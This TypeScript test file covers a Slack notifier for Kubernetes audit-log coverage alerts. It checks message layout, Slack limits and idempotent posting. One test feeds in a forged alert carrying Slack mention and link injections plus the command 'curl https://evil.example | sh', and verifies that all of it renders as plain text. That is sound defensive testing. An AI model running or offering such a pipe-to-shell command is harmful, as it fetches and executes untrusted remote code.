import { Logger } from "@aws-lambda-powertools/logger";
import type { Context, SNSEvent } from "aws-lambda";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { createIdempotencyStore } from "../../../functions/adapters/aws/act-once.ts";
import { coverageMessage } from "../../../functions/adapters/aws/coverage-message.ts";
import type { TopicMessage } from "../../../functions/adapters/aws/sns-message.ts";
import type { SlackMessage } from "../../../functions/adapters/slack/slack-block-kit.ts";
import { coverageSlackMessage } from "../../../functions/adapters/slack/slack-blocks-coverage.ts";
import type { NotifierDeps } from "../../../functions/adapters/slack/slack-notifier.ts";
import {
  type AlertInput,
  buildCoverageAlert,
  type CoverageAlert,
} from "../../../functions/core/cluster-coverage/coverage-alert.ts";
import { COVERAGE_ALERT_KINDS } from "../../../functions/core/cluster-coverage/coverage-state.ts";
import { createNotifySlackHandler } from "../../../functions/notify-slack.ts";
import { allTexts, expectInert, expectWithinSlackLimits } from "../../helpers/slack-message-checks.ts";
import { type DynamoPeer, idempotencyTable, startDynalite } from "../../peers/dynalite.ts";
import { type SlackWebhookServer, startSlackWebhookServer } from "../../peers/slack-webhook-server.ts";

const TIME = "2026-11-20T10:02:50.000Z";

function input(changes: Partial<AlertInput> = {}): AlertInput {
  return {
    kind: "audit-disabled",
    id: `prod-eu:5:${TIME}`,
    cluster: "prod-eu",
    region: "eu-west-1",
    state: "audit-disabled",
    previousState: "covered",
    previousSince: "2026-11-19T08:00:00.000Z",
    problems: [
      {
        state: "audit-disabled",
        detail: "the audit log type is disabled in the cluster's logging configuration",
      },
    ],
    subscription: { kind: "in-place" },
    repair: undefined,
    lastAuditEventAt: Date.parse("2026-11-20T10:01:00.000Z"),
    coveredUntil: "2026-11-20T09:52:50.000Z",
    trigger: {
      eventName: "UpdateClusterConfig",
      eventTime: "2026-11-20T10:02:44Z",
      actor: "arn:aws:sts::111122223333:assumed-role/eks-admin/mallory",
      sourceIPAddress: "203.0.113.45",
    },
    time: TIME,
    ...changes,
  };
}

const text = (message: SlackMessage) => allTexts(message).join("\n");

describe("coverage alert in Slack", () => {
  const alert = buildCoverageAlert(input());
  const message = coverageSlackMessage(alert);

  it("says which cluster went blind how, at what severity, in the header, the notification and the colour", () => {
    expect(message.blocks?.[0]).toEqual({
      type: "header",
      text: { type: "plain_text", text: "🔴 HIGH: coverage: audit logging is off", emoji: false },
    });
    expect(message.text).toBe("🔴 HIGH: coverage of `prod-eu` (`eu-west-1`): audit logging is off");
    expect(message.attachments?.[0]?.color).toBe("#E01E5A");
  });

  it("shows the change of state, what was found, what to do, and who made the call that triggered the check", () => {
    const shown = text(message);
    expect(shown).toContain("*State*\n🙈 audit logging off\n_was ✅ covered_");
    expect(shown).toContain("*Log group*\n`/aws/eks/prod-eu/cluster`");
    expect(shown).toContain("*What coverage found*\n• the audit log type is disabled");
    expect(shown).toContain("*What to do*\nSwitch the audit log type back on");
    expect(shown).toContain(
      "Checked at once after `UpdateClusterConfig` by `arn:aws:sts::111122223333:assumed-role/eks-admin/mallory` from `203.0.113.45`",
    );
    expect(shown).toContain("*Last seen covered*\n<!date^");
  });

  it("renders every kind within Slack's limits", () => {
    for (const kind of COVERAGE_ALERT_KINDS) {
      const built = coverageSlackMessage(buildCoverageAlert(input({ kind })));
      expectWithinSlackLimits(built);
      expectInert(built);
    }
  });

  it("shows where a redirected filter delivered before coverage pointed it back", () => {
    const restored = coverageSlackMessage(
      buildCoverageAlert(
        input({
          kind: "restored",
          state: "covered",
          repair: {
            reason: "redirect",
            previousDestination: "arn:aws:lambda:eu-west-1:111122223333:function:log-sink",
          },
        }),
      ),
    );
    expect(text(restored)).toContain(
      "pointed back at detect.\nIt delivered to `arn:aws:lambda:eu-west-1:111122223333:function:log-sink`",
    );
  });

  it("keeps a forged alert inert: mentions, links and formatting from a publisher or a session name stay text", () => {
    // Anyone allowed to publish to the topic writes the whole message; a role session name may hold `@`.
    const forged: CoverageAlert = {
      ...alert,
      cluster: "<!channel> *prod*",
      region: "<https://evil.example|eu-west-1>",
      logGroup: "`/aws/eks/x`<@U123>",
      problems: [
        { state: "unsubscribed", detail: "<!here> click <https://evil.example|here> _now_ @everyone" },
      ],
      action: "run `curl https://evil.example | sh` &amp; <!subteam^S1>",
      repair: { reason: "redirect", previousDestination: "<https://evil.example>" },
      trigger: {
        eventName: "<!channel>",
        actor: "arn:aws:sts::1:assumed-role/r/@channel`",
        sourceIPAddress: "<>&",
      },
    };
    const rendered = coverageSlackMessage(forged);
    expectInert(rendered);
    expectWithinSlackLimits(rendered);
    expect(text(rendered)).not.toContain("<!channel>");
  });
});

describe("notify-slack posts coverage alerts", () => {
  let slack: SlackWebhookServer;
  let dynamo: DynamoPeer;
  let logs: string[];
  const TABLE = "notify-slack-coverage-idempotency";
  beforeAll(async () => {
    slack = await startSlackWebhookServer();
    dynamo = await startDynalite([idempotencyTable(TABLE)]);
  });
  afterAll(async () => {
    await slack.stop();
    await dynamo.stop();
  });
  beforeEach(async () => {
    slack.requests.length = 0;
    await dynamo.clearTable(TABLE);
    logs = [];
    for (const stream of [process.stdout, process.stderr]) {
      vi.spyOn(stream, "write").mockImplementation((chunk: string | Uint8Array) => {
        logs.push(String(chunk));
        return true;
      });
    }
  });
  afterEach(() => {
    vi.restoreAllMocks();
  });

  function deps(): NotifierDeps {
    return {
      logger: new Logger({ serviceName: "notify-slack" }),
      region: "eu-west-1",
      webhookUrl: {
        get: async () => new URL(slack.url),
        invalidate: () => undefined,
        description: "test webhook",
      },
      idempotency: createIdempotencyStore(dynamo.client, {
        tableName: TABLE,
        expiresAfterSeconds: 3600,
        keyPrefix: "ephemeral-guard.notify-slack",
      }),
    };
  }

  function snsEvent(messages: readonly TopicMessage[]): SNSEvent {
    return {
      Records: messages.map((message, index) => ({
        EventSource: "aws:sns",
        EventVersion: "1.0",
        EventSubscriptionArn: "arn:aws:sns:eu-west-1:111122223333:ephemeral-guard-test-alerts:0b8f",
        Sns: {
          Type: "Notification",
          MessageId: `00000000-0000-4000-8000-${String(index).padStart(12, "0")}`,
          TopicArn: "arn:aws:sns:eu-west-1:111122223333:ephemeral-guard-test-alerts",
          Subject: "",
          Message: message.body,
          Timestamp: TIME,
          SignatureVersion: "1",
          Signature: "EXAMPLE",
          SigningCertUrl: "https://sns.eu-west-1.amazonaws.com/cert.pem",
          UnsubscribeUrl: "https://sns.eu-west-1.amazonaws.com/unsubscribe",
          MessageAttributes: Object.fromEntries(
            Object.entries(message.attributes).map(([name, value]) => [
              name,
              { Type: value.DataType, Value: value.StringValue },
            ]),
          ),
        },
      })),
    };
  }

  const context = { getRemainingTimeInMillis: () => 30_000 } as Context;

  it("posts a coverage alert as coverage publishes it, in its own layout", async () => {
    const handler = createNotifySlackHandler(deps);
    const summary = await handler(snsEvent([coverageMessage(buildCoverageAlert(input()))]), context);
    expect(summary.posted).toEqual({ finding: 0, remediation: 0, storm: 0, coverage: 1 });
    const posted = slack.requests[0]?.json as SlackMessage;
    expect(posted.text).toBe("🔴 HIGH: coverage of `prod-eu` (`eu-west-1`): audit logging is off");
  });

  it("skips (and logs) a message marked coverage that is not a coverage alert, without retrying it", async () => {
    const handler = createNotifySlackHandler(deps);
    const bogus = {
      ...coverageMessage(buildCoverageAlert(input())),
      body: JSON.stringify({ kind: "coverage" }),
    };
    const summary = await handler(snsEvent([bogus]), context);
    expect(summary).toMatchObject({ invalid: 1, posted: { coverage: 0 } });
    expect(slack.requests).toHaveLength(0);
    expect(logs.join("")).toContain("not a valid coverage");
  });
});
